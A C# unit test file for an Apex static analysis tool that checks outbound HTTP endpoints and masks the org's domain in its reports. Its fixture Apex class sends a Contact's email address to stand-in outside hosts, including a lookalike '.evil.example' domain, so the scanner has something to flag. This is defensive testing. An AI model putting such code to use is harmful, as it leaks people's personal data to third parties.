using ApexSovereignty.Cli.Analysis;
using ApexSovereignty.Rules.Policies;
using NUnit.Framework;
using Shouldly;

namespace ApexSovereignty.Cli.Tests;

/// <summary>The host that stands for the org's own domain inside is nowhere shown.</summary>
public sealed class OrgDomainTests
{
    private const string Source = """
        public class A {
            public void run(Id id, String tail) {
                Contact c = [SELECT Email FROM Contact WHERE Id = :id];
                HttpRequest r = new HttpRequest();
                r.setEndpoint(URL.getOrgDomainUrl().toExternalForm() + '/services/data/v60.0/' + tail + c.Email);
                r.setBody(c.Email);
                new Http().send(r);
                HttpRequest q = new HttpRequest();
                q.setEndpoint('https://x.example/?u=' + URL.getOrgDomainUrl().toExternalForm());
                q.setBody(c.Email);
                new Http().send(q);
                HttpRequest s = new HttpRequest();
                s.setEndpoint(URL.getSalesforceBaseUrl().getHost() + tail);
                s.setBody(c.Email);
                new Http().send(s);
                HttpRequest t = new HttpRequest();
                t.setEndpoint('https://' + URL.getOrgDomainUrl().getHost() + '.proxy.example/x');
                t.setBody(c.Email);
                new Http().send(t);
            }
        }
        """;

    [Test]
    public void NoOutputHoldsIt()
    {
        using var line = new CommandLine().With("classes/A.cls", Source);
        var runner = new AnalysisRunner([new RulesAnalyzer()]);
        string[] reports = ["r.sarif", "r.json", "r.html", "r.md", "r.csv", "r.xml"];
        line.RunWith(runner, ["scan", "--verbose", .. reports.SelectMany(report => new[] { "-o", report })]).ShouldBe(ExitCode.Findings, line.Error);
        line.Out.ShouldNotContain(EndpointValue.OrgHost);
        line.Out.ShouldContain("endpoint: {org domain}…");
        foreach (var number in new[] { 5, 9, 13, 17 })
        {
            line.RunWith(runner, "explain", FormattableString.Invariant($"classes/A.cls:{number}")).ShouldBe(0, line.Error);
            line.Out.ShouldContain("{org domain}");
            line.Out.ShouldNotContain(EndpointValue.OrgHost);
        }

        string[] registers = ["m.html", "m.json", "m.md", "m.csv"];
        line.RunWith(runner, ["map", .. registers.SelectMany(register => new[] { "-o", register })]).ShouldBe(0, line.Error);
        line.RunWith(runner, "init").ShouldBe(0, line.Error);
        foreach (var file in reports.Concat(registers).Append("apexsov.json")) line.Read(file).ShouldNotContain(EndpointValue.OrgHost, customMessage: file);
    }

    // What follows the name of the org's domain without a slash makes another host of it.
    [TestCase("https://" + EndpointValue.OrgHost + ".evil.example/x", EndpointVerdict.NotAllowed, "https://{org domain}.evil.example/x")]
    [TestCase("https://" + EndpointValue.OrgHost + "/x", EndpointVerdict.Allowed, "the org itself (/x)")]
    [TestCase("https://x.example/" + EndpointValue.OrgHost, EndpointVerdict.NotAllowed, "https://x.example/{org domain}")]
    public void Verdicts(string text, EndpointVerdict verdict, string display)
    {
        var decision = Policy.Default.DecideEndpoint(EndpointValue.Exact(text));
        decision.Verdict.ShouldBe(verdict);
        decision.Display.ShouldBe(display);
    }
}
